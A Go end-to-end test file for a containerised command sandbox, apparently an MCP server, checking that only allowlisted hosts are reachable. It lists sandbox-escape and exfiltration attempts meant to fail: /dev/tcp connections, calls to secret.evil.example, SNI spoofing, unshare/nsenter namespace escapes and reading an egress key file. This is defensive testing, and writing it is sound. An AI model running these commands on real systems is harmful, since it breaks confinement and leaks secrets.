package main_test

import (
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
)

// image is what the end-to-end tests prepare. It has git, perl and openssl.
const image = "sallyport-e2e/golang:1.26-bookworm"

// A box is sandboxd in a locked container that has no network at all, unless the
// options say otherwise.
type box struct {
	t  *testing.T
	id string
}

// lockedBox starts one with these options of docker run. id is empty if
// sandboxd does not serve; said is its log then.
func lockedBox(t *testing.T, e *egress, workspace string, options ...string) (b box, said string) {
	t.Helper()
	if !slices.Contains(options, "--network") {
		options = append(options, "--network", "none")
	}
	args := append([]string{"run", "--detach", "--user", "54321:54321", "--cap-drop", "ALL", "--security-opt", "no-new-privileges:true",
		"--read-only", "--tmpfs", "/tmp:rw,exec,nosuid,nodev,mode=1777,size=64m", "--tmpfs", "/private:rw,exec,nosuid,nodev,mode=1777,size=64m",
		"--pids-limit", "240", "--memory", "1g", "--env", "MCP_ADDR=127.0.0.1:8000", "--env", "MCP_IN_CONTAINER=true", "--env", "MCP_WORKSPACE=/workspace",
		"--env", "MCP_AUTH_TOKEN=" + token, "--env", "MCP_COMMAND_NETWORK=allowlist", "--env", "MCP_EGRESS=*",
		"--env", "MCP_EGRESS_SOCKET=/run/egress/e.sock", "--env", "MCP_EGRESS_KEY_FILE=/run/secrets/egress-key",
		"--volume", workspace + ":/workspace", "--volume", filepath.Dir(e.client.Socket) + ":/run/egress",
		"--volume", filepath.Join(filepath.Dir(filepath.Dir(e.client.Socket)), "key") + ":/run/secrets/egress-key:ro",
		"--volume", filepath.Join(filepath.Dir(binary), "sandboxd") + ":/usr/local/bin/sandboxd:ro"}, options...)
	out, err := exec.Command("docker", append(args, image, "/usr/local/bin/sandboxd")...).Output()
	if err != nil {
		t.Fatalf("docker run: %v %s", err, out)
	}
	id := strings.TrimSpace(string(out)) // what is returned may have none
	b = box{t, id}
	t.Cleanup(func() { exec.Command("docker", "rm", "--force", id).Run() })
	for deadline := time.Now().Add(30 * time.Second); time.Now().Before(deadline); time.Sleep(100 * time.Millisecond) {
		log, _ := exec.Command("docker", "logs", b.id).CombinedOutput()
		if said = string(log); strings.Contains(said, `"msg":"serving"`) {
			return b, ""
		}
		if state, _ := exec.Command("docker", "inspect", "--format", "{{.State.Running}} {{.State.ExitCode}}", b.id).Output(); strings.HasPrefix(string(state), "false") {
			return box{t: t}, said + string(state)
		}
	}
	t.Fatal("sandboxd neither serves nor ends:", said)
	return b, said
}

// run calls run_command from inside the container: there is no other way in.
func (b box) run(line string) (r result) {
	b.t.Helper()
	body, _ := json.Marshal(map[string]any{"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": map[string]any{"name": "run_command",
		"arguments": map[string]any{"command": line, "timeout_seconds": 60},
		"_meta": map[string]any{"io.modelcontextprotocol/protocolVersion": "2026-07-28", "io.modelcontextprotocol/clientCapabilities": map[string]any{},
			"io.modelcontextprotocol/clientInfo": map[string]any{"name": "t", "version": "1"}}}})
	cmd := exec.Command("docker", "exec", "--interactive", b.id, "bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/8000; cat >&3; timeout 90 cat <&3")
	cmd.Stdin = strings.NewReader(fmt.Sprintf("POST /mcp-sandbox/mcp HTTP/1.1\r\nHost: 127.0.0.1:8000\r\nConnection: close\r\nAuthorization: Bearer %s\r\n"+
		"Content-Type: application/json\r\nAccept: application/json, text/event-stream\r\nMCP-Protocol-Version: 2026-07-28\r\nMcp-Method: tools/call\r\n"+
		"Mcp-Name: run_command\r\nContent-Length: %d\r\n\r\n%s", token, len(body), body))
	out, err := cmd.CombinedOutput()
	text := string(out)
	if i := strings.LastIndex(text, "data: "); i >= 0 {
		text, _, _ = strings.Cut(text[i+len("data: "):], "\n")
	}
	var answer struct {
		Result struct {
			StructuredContent *result `json:"structuredContent"`
		}
	}
	if err != nil || json.Unmarshal([]byte(text), &answer) != nil || answer.Result.StructuredContent == nil {
		b.t.Fatalf("%v %s", err, out)
	}
	return *answer.Result.StructuredContent
}

func seccompProfile(t *testing.T) string {
	t.Helper()
	profile, err := filepath.Abs("../deploy/seccomp.json")
	if err != nil {
		t.Fatal(err)
	}
	return profile
}

// containerEgress starts an egress whose files a container can have. Beside its state
// there is a workspace.
func containerEgress(t *testing.T, allow string) (dir string, e *egress) {
	t.Helper()
	dir, err := os.MkdirTemp("/var", "egress-container")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	os.Chmod(dir, 0o755)
	for _, name := range []string{"workspace", "state", "state/run"} {
		os.Mkdir(filepath.Join(dir, name), 0o700)
		os.Chown(filepath.Join(dir, name), 54321, 54321)
	}
	world.ca.WritePEM(filepath.Join(dir, "workspace", "ca.pem"))
	return dir, startIn(t, filepath.Join(dir, "state"), allow, 54321)
}

// In a locked container without any network, with the profile that ships, a
// command reaches what is allowed and nothing else. With Docker's own profile
// the start is refused with a message.
func TestLockedContainer(t *testing.T) {
	if !rootHere(t) {
		return
	}
	if out, err := exec.Command("docker", "image", "inspect", "--format", "{{.Id}}", image).CombinedOutput(); err != nil {
		missing(t, fmt.Sprintf("Docker with %s: %s", image, out))
		return
	}
	publish("git.example", "93.184.215.10", gitHost(t))
	world.dns.Set("secret.evil.example", "93.184.215.11")
	dir, e := containerEgress(t, "git.example")
	workspace := filepath.Join(dir, "workspace")
	if b, said := lockedBox(t, e, workspace); b.id != "" || !strings.Contains(said, "deploy/seccomp.json") || !strings.HasSuffix(strings.TrimSpace(said), " 3") {
		t.Errorf("with Docker's own profile: %q", said)
	}
	b, said := lockedBox(t, e, workspace, "--security-opt", "seccomp="+seccompProfile(t))
	if b.id == "" {
		t.Fatalf("with the profile: %s", said)
	}
	if r := b.run(trust + "git clone -q https://git.example/hello.git && cat hello/f"); r.Stdout != "hello from git\n" {
		t.Errorf("an allowed host: %+v", r)
	}
	world.dns.Queries()
	forget()
	direct := func(host string, port int) string {
		return fmt.Sprintf("timeout 3 bash -c 'exec 3<>/dev/tcp/%s/%d'", host, port)
	}
	for _, attempt := range []string{"git ls-remote https://secret.evil.example/", "getent hosts secret.evil.example", direct("127.0.0.1", 8000), direct("93.184.215.10", 443), direct("172.17.0.1", 22),
		"openssl s_client -brief -connect secret.evil.example:443 -proxy 127.0.0.1:3128 </dev/null",
		"openssl s_client -brief -connect git.example:443 -servername evil.example -proxy 127.0.0.1:3128 </dev/null",
		"unshare --net true", "unshare --user true", "unshare --user --net true", "nsenter --net=/proc/1/ns/net true", "cat /run/secrets/egress-key",
		`perl -MSocket -e 'socket(S, AF_UNIX, SOCK_STREAM, 0) or die; connect(S, sockaddr_un("/run/egress/e.sock")) or die; syswrite(S, "0" x 64 . "\n"); sysread(S, $_, 9); die unless $_ eq "ok\n"'`} {
		if r := b.run(attempt); r.ExitCode == 0 {
			t.Errorf("%s: %+v", attempt, r)
		}
	}
	for _, q := range world.dns.Queries() {
		if q != "git.example" {
			t.Errorf("a DNS query for %s", q)
		}
	}
	quiet(t)
	own := `perl -MIO::Socket::INET -e '$l = IO::Socket::INET->new(Listen => 1, LocalAddr => "127.0.0.1:8000", ReuseAddr => 1) or die; if (!fork) { $c = $l->accept; print $c "own\n"; exit }
		print IO::Socket::INET->new("127.0.0.1:8000")->getline'`
	if r := b.run(own); r.Stdout != "own\n" {
		t.Errorf("a server of its own, at the port of sandboxd: %+v", r)
	}
}
